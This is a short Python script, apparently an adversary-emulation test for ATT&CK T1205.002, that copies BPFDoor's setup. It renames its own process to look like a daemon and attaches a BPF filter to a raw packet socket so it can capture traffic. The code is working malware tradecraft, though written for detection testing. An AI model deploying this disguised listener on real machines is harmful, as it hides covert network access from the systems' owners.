#!/usr/bin/env python3
# title: As BPFDoor does: a raw socket with a filter, under the name of a daemon
# technique: T1205.002
# needs: python3

import ctypes, socket, struct
ctypes.CDLL(None).prctl(15, b"haldrund", 0, 0, 0)
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x800))
code = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xffff))
s.setsockopt(socket.SOL_SOCKET, 26, struct.pack("HL", 1, ctypes.addressof(code)))
